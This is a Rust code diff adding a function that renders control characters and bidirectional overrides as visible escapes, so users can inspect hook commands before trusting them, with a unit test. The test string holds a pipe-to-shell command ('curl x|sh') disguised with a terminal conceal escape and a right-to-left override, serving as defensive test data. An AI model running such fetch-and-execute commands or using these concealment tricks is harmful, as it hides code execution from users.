@@ -70,6 +70,27 @@ fn skip_string(it: &mut std::iter::Peekable<std::str::Chars<'_>>) {
     }
 }
 
+/// The text with every control character but newline and tab, and every bidirectional
+/// override, written out (`\x1b`, `\r`, `<U+202E>`) instead of removed: for what a person
+/// must see exactly as it will be used, such as a `hooks.toml` command before they trust it —
+/// the escape is part of what runs.
+pub fn visible(s: &str) -> Cow<'_, str> {
+    if !s.chars().any(|c| needs_care(c) && c != '\n' && c != '\t') {
+        return Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len() + 8);
+    for c in s.chars() {
+        match c {
+            '\n' | '\t' => out.push(c),
+            '\r' => out.push_str("\\r"),
+            c if c.is_control() => out.push_str(&format!("\\x{:02x}", c as u32)),
+            c if needs_care(c) => out.push_str(&format!("<U+{:04X}>", c as u32)),
+            c => out.push(c),
+        }
+    }
+    Cow::Owned(out)
+}
+
 /// A stored text as a command prints it: secrets redacted ([`crate::redact`]), then escapes
 /// stripped. Newlines are kept.
 pub fn shown(s: &str) -> String {
@@ -145,6 +166,15 @@ mod tests {
             assert_eq!(strip(input), want, "{input:?}");
         }
         assert!(matches!(strip("nothing to do\n"), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn visible_writes_controls_out() {
+        assert_eq!(
+            visible("echo hi\x1b[8m; curl x|sh\r\u{202e}\nok\t"),
+            "echo hi\\x1b[8m; curl x|sh\\r<U+202E>\nok\t"
+        );
+        assert!(matches!(visible("plain"), Cow::Borrowed(_)));
     }
 
     #[test]
